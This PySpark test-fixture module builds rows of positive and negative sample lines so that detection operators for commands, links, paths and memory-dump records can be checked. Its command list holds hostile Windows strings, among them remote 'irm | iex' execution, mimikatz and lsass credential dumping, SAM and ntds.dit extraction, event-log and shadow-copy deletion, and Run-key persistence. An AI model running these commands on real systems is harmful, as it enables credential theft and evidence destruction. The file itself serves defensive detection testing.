r"""Template evidence: lines of known kinds, dealt over the rows of a table by their ids.

The tables at hand hold prose and orders, so operators on commands, paths and links get their
rows from templates: row `id` of a table takes template id mod n, with {id} replaced. Each list
has positive and negative lines for every operator that reads it.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

COMMANDS = [
    r'cmd /c reg delete "HKEY_LOCAL_MACHINE\Software\Bad{id}" /f',
    r"wordsregthendeletehkeyjoined{id}",
    r"reg and hkey only {id}",
    r"cmd /c type input{id}.txt > output{id}.txt",
    r"copy src{id}.dll /-y dst.dll",
    r"Echo this line {id}",
    r"copy single-operand{id}",
    r"cmd /c echo off > nul",
    r"cmd.exe /c echo pwned{id} > C:\Users\u\run.bat",
    r"powershell -EncodedCommand QQ=={id}",
    r"powershell -nop -enc base64{id}",
    r"iex x{id}",
    r"irm https://example.com/{id}.ps1 | iex",
    r"iwr -uri https://example.com/{id}.exe -outfile C:\Temp\a.exe; powershell C:\Temp\a.exe",
    r"runner{id}.bat download invoke base64 payload",
    r"java -jar app{id}.jar",
    r"runner{id}.bat",
    r"PATHEXT=.COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC {id}",
    r'reg add HKCR\test{id} /v "URL Protocol" /t REG_SZ /d "" /f',
    r"test://launch{id}",
    r'cmd /c wmic    process   call   create "calc{id}.exe"',
    r"wmic product get name {id}",
    r"rundll32.exe shell32.dll,Control_RunDLL appwiz{id}.cpl",
    r"C:\Windows\System32\rundll32.exe {id}",
    r"rundll32.exe C:\Users\u\AppData\x{id}.dll,Start",
    r"rundll32.exe javascript:alert({id}a)",
    r"regsvr32 /s /u /i:http://example.com/{id}.sct scrobj.dll",
    r"CreateRemoteThread WriteProcessMemory into evil{id}.dll",
    r"description: powershell iex https://example.com/{id}",
    r"usage: reg delete HKLM\Software\x{id} /f",
    r"reg delete HKCU\Software\{0} /f {id}",
    r"__EventFilter CommandLineEventConsumer cmd.exe /c x{id}.exe",
    r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v a{id} /d C:\Temp\a.exe /f",
    r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce /v a{id} /d cmd.exe /f",
    r"cmd /c copy a{id}.exe C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\a.exe",
    r"schtasks /create /tn job{id} /tr C:\Temp\run.exe /sc daily",
    r"schtasks /query /tn job{id}",
    r"cmd /c sc create svc{id} binpath= C:\Temp\s.exe start= auto",
    r"reg add HKLM\System\CurrentControlSet\Services\x{id} /v ImagePath /d C:\Temp\s.exe",
    r"wevtutil cl Security{id}",
    r"vssadmin delete shadows /all /quiet {id}",
    r"wbadmin delete catalog -quiet {id}",
    r"auditpol /clear /y {id}",
    r"bcdedit /set testsigning on {id}",
    r"fsutil usn deletejournal /d C: {id}",
    r"powershell Clear-RecycleBin -Force {id}",
    r"cmd /c powercfg -h off {id}",
    r"cmd /c del C:\pagefile.sys {id}",
    r"cmd /c del C:\Users\u\AppData\thumbcache_{id}.db",
    r"cipher /w:C:\{id}",
    r"sdelete -p 3 C:\secret{id}.txt",
    r"cmd /c bleachbit --clean system.{id} --wipe",
    r"reg delete HKLM\SYSTEM\CurrentControlSet\Enum\USBSTOR /f {id}",
    r"cmd /c del C:\Windows\Prefetch\A{id}.pf",
    r"cmd /c del C:\Windows\amcache.hve {id}",
    r"steghide embed -cf pic{id}.jpg -ef x.txt",
    r"imdisk -a -s 512M -m R: {id}",
    r"veracrypt.exe /v C:\vol{id}.hc /q",
    r"streams.exe -d C:\x{id}",
    r"cmd /c dir /r C:\Users\u\{id}",
    r"cmd /c type evil.exe > C:\a{id}.txt:hidden.exe",
    r"cmd /c echo x{id} > note.txt:secret",
    r"dnscat2 --dns server=x{id}",
    r"openvpn --config C:\vpn\a{id}.ovpn",
    r"cmd /c timestomp a{id}.exe -z x",
    r"exiftool -AllDates=2020:01:01 a{id}.jpg",
    r"touch -t 202001010000 a{id}",
    r"powershell (Get-Item C:\a{id}.exe).LastWriteTime='01/01/2020'",
    r"reg add HKLM\SYSTEM\CurrentControlSet\Control\Class\x /v NetworkAddress /d {id} /f",
    r"eventcreate /t ERROR /id 100 /d x{id}",
    r"cmd dkom unlink eprocess {id}",
    r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecureBoot /v uefi /d {id}",
    r"mimikatz.exe sekurlsa::logonpasswords {id}",
    r"reg save HKLM\SAM C:\Temp\sam{id}",
    r"esentutl /y C:\Windows\ntds.dit /d C:\Temp\n{id}",
    r"procdump -ma lsass.exe C:\lsass.dmp {id}",
    r"rundll32 comsvcs.dll, MiniDump lsass {id}",
    r"ngrok http {id}",
    r"cloudflared tunnel run t{id}",
    r"chisel client 10.0.0.1:80 R:{id}",
    r"ssh -R 80:localhost:{id} host -r x",
    r"javaw.exe .minecraft proxyserver=127.0.0.1:10808 sing-box tun2socks {id}",
    r"javaw.exe proxyserver=127.0.0.1:10808 {id}",
    r"tailscale up {id}",
    r"kdmapper.exe iqvw64e.sys {id}",
    r"C:\Program Files\AnyDesk\AnyDesk.exe --start-with-win {id}",
    r"mstsc /v:10.0.0.{id}",
    r"anydesk is a word here {id}",
    "diff --git a/x{id} b/y powershell iex http://",
    r"обычная строка с cmd /c reg delete HKCU\Software\Тест{id} /f",
    "just prose of id {id} with nothing in it",
]

LINKS = [
    "https://github.com/test{id}", "github.com/repo{id}", "0.com", "00.mp", "HTTPS://User@WWW.Example.COM:443/a{id}?q=1", "http://example.net:8080/path{id}/", "yandex.ru", "keyauth.win",
    "discord.gg/somewhere{id}", "https://keyauth.win/download{id}", "https://yandex.ru/search/?text=keyauth{id}", "https://cdn.keyauth.win/x{id}.exe",
    "https://files.example.com/CrystalDisk{id}.zip", "https://example.com/get?u=https://other.com/API{id}.dll", "https://github.com/search?q=autoclicker{id}",
    "https://github.com/x/AutoClicker/releases/tag/v1.{id}", "https://sourceforge.net/projects/sdelete/files/latest/download", "(https://example.org/a\\/b{id}),", "https://exa_mple.com/x{id}",
    "https://anydesk.com/en/downloads{id}", "https://abc{id}.ngrok.io/x", "http://trycloudflare.com/{id}", "https://example.unknownsuffix/{id}", "https://-bad.example.com/{id}",
    "https://example.com/a||b{id}", "https://a1b2c3d4e5f6g7h8i9j0k1l2m3.example.com/{id}", "http://8.8.8.8/x{id}", "https://example.com/cheatengine{id}.exe.", "https://unknowncheats.me/forum/{id}",
    "www.example.org", "https://example.com/" + "a1" * 60 + "{id}", "https://example.com/x-https://y.com/{id}", "ftp://files.example.org:21/pub/{id}.rar", "https://xenos.example.io/xenos{id}.dllabc",
    "https://example.com:99999/{id}", "playit.gg/x{id}", "https://teamviewer.example.net/{id}", "https://example.me/drip/{id}#frag", "",
]


def rows(spark: SparkSession, sf_dir: str, templates, table: str = "orders", key: str = "o_orderkey", name: str = "line") -> DataFrame:
    """id and a line for each row of the table. The templates are a fixed, small list."""
    texts = spark.createDataFrame(list(enumerate(templates)), "tid long, text string")
    ids = spark.read.parquet(f"{sf_dir}/{table}.parquet").select(F.col(key).cast("long").alias("id"))
    ids = ids.withColumn("tid", F.col("id") % len(templates))
    return ids.join(F.broadcast(texts), "tid").select("id", F.replace("text", F.lit("{id}"), F.col("id").cast("string")).alias(name))


def rows_sql(templates, table: str = "orders", key: str = "o_orderkey", name: str = "line") -> str:
    values = ", ".join("({}, '{}')".format(i, t.replace("'", "''")) for i, t in enumerate(templates))
    return (
        f"(SELECT CAST({key} AS BIGINT) AS id, replace(t.text, '{{id}}', CAST({key} AS VARCHAR)) AS {name} FROM {table} "
        f"JOIN (VALUES {values}) t(tid, text) ON {key} % {len(templates)} = t.tid)"
    )

PATHS = [
    r"C:\C:\Windows\System32\svchost.exe", r" c : \users\u{id}\downloads\tool.exe ", r"\\WINDOWS\SYSTEM32\APPX{id}.DLL", r"\\192.168.1.10\share\tool{id}.exe",
    r"\Device\HarddiskVolume8\Tools\usbtool{id}.exe", r"\Device\HarddiskVolume99\Tools\x.exe", r"C:\Device\HarddiskVolume9\Windows\System32\cmd.exe",
    r"\??\C:\Windows\Prefetch\AMDRSSRCEXT.EXE-A391DDC1.pf", r"custom_prefetch_name{id}.pf", r"DLLHOST.EXE-XYZ12345.pf", r"STEAMWEBHELPER.EXE-58917903.pf", r"KILLAURA{id}.EXE-0A1B2C3D.pf",
    r"\\?\D:\Games\\launcher{id}.exe", r"'c:/users/u/desktop/cheat{id}.exe',", r"[savemin] blue avalone.exe", r"!!steamwebhelper.exe", r"*.exe", r".exe", r"E:\Extra\portable{id}.exe",
    r"Z:\Net\agent{id}.exe", r"A:\Legacy\oldtool{id}.exe", r"C:\path\abc.dll.dll", r"svchost.exe", r"0-0.dll", r"C:\Users\Public\Downloads\vape{id}.jar", r"C:\Program Files\App\app{id}.exe",
    r"C:\Users\u\AppData\Local\Temp\loader{id}.dll", r"C:\Windows\WinSxS\x{id}.dll", r"C:\src\target\debug\kdmapper{id}.exe", r"C:\Users\u\node_modules\xenos\x.exe", r"C:\Tools\triggerbot.exe",
    r"C:\Users\u\AppData\Local\gdrv{id}.sys", r"c:\TOOLS\Xenos-{id}.exe", r"C:\Tools\sdelete-{id}.exe", r"C:\tools\monitor{id}.exe", r"C:\tools\tor.exe", r"\\host\share\x{id}.exe", r"\Users\u\run{id}.bat", r"C:\Temp\api-ms-win-x{id}.dll",
    r"C:\Users\u\Desktop\9f8e7d6c5b4a39281706f5e4d3c2b1a0.exe", r"C:\Users\u\Desktop\a({id}.exe", r"D:\Games\Minecraft\inject{id}.jar", r"C:\Users\mira\Downloads\pack{id}\gdrv.sys", r"C:\Windows\System32\drivers{id}\capcom.sys", "",
]

REFS = [
    r"X@ProcessStart,\??\C:\Windows\system32\MSI{id}.dll", r"C:\Users\test\AppData\Roaming\tool\loader{id}.exe 2025-11-17 14:22:01 2025-11-18 15:01:09",
    r"run tool{id}.exe and other.dll at 31.01.2026 07:08:09", r"2026/01/23-18:27:43.138 D:\Games\launcher{id}.exe", r"bad 2026/99/23-18:27:43.138 and 2105/08/31:17:32:33 x{id}.exe",
    r'open "C:\My Files\a b{id}.jar" now', r"!!START{id}.exe!2024/12/12:08:14:53!0!", r"!!svchost.exe!2026/03/25:13:01:44!0!", r"no file here {id}", r"https://example.com/a{id}.exe",
    r"2024-02-30 invalid.exe, 2024-02-29T10:00:00+0300 valid{id}.exe", r"*.exe a?b.dll <x>.bat {id}", r"\Device\HarddiskVolume3\Tools\t{id}.ps1 2024-01-01 10:05:09",
]

DUMP = [
    r"tcp 45.33.32.156:31337 -> 192.168.0.3:51333 id {id}", r"tcp 192.168.0.10:31337 -> 192.168.0.3:51333 id {id}", r"C:\Windows\System32\kernel32.dll {id}",
    r"C:\Users\alice\AppData\Roaming\evilhook{id}.dll", r"writeprocessmemory virtualprotect shellcode rwx {id}", r"writeprocessmemory only {id}", r"C:\a.exe tcp 8.8.8.8:4444 est {id}",
    r"C:\a.exe tcp 8.8.8.8:4444 syn", r"C:\a.exe tcp 8.8.8.8:4444 est 2024-01-01 10:05:{id}", r"C:\a.exe tcp 8.8.8.8:4444 est 2024-01-01 10:06:00",
    r"powershell -enc QQ== connect https://pastebin.com/raw/{id}", r"cmd.exe /c curl https://example.com:8443/x{id}", r"mshta wss://host.example.org/a{id} outbound",
    r"https://github.com/a{id} connect", r"https://keyauth.win/a{id} connect", r"javaw.exe inject writeprocessmemory {id}", r"javaw.exe -javaagent:x.jar {id}",
    r"javaw.exe proxyserver=127.0.0.1:10808 reg add sing-box {id}", r"hidden process eprocess pid: {id}", r"cmd /c reg add HKLM\x{id} /v a", r"inline hook trampoline in module {id}",
    r"checksum mismatch {id}", r"example.com:9001 connect {id}", r"app=C:\Tools\b.exe tcp 10.0.0.1:1337 {id}", r"udp 1.2.3.4:50000 send {id}", r"iqvw64e.sys at C:\Temp\{id}",
    r'"tool_uses" tcp 8.8.8.8:4444 {id}', r"plain prose with no sign {id}", r"conhost history stdin stdout {id}", r"wmic process call create connect 9.9.9.9:4444 {id}",
]

NOTED = [
    r"security.evtx eventid=4624 user {id}", r"eventid=7045 service x{id}", r"eventid=4688 {id}", r"system.evtx {id}", r"taskscheduler/operational {id}", r"minecraft with liquidbounce {id}",
    r"minecraft alone {id}", r"C:\ProgramData\Microsoft\Search\Data\windows.edb {id}", r"searchindexer.exe {id}", r"searchindexer.exe /embedding {id}",
    r"C:\Users\u\AppData\Local\Microsoft\Windows\Explorer\thumbcache_{id}.db bypass", r"thumbcache_{id}.db", r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run a{id}.exe",
    r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run nothing {id}", r"\KnownDlls\ntdll.dll {id}", r"\KnownDlls\evil{id}.dll", r"__EventFilter {id}",
    r"\Device\HarddiskVolume3\Users\u\x{id}.exe   ran", r"\??\ c:\temp\y{id}.dll", r"ab", r"sec-websocket-key: {id}", r"plain words {id}", r"C:\Users\u\AppData\Roaming\hook{id}.dll",
]
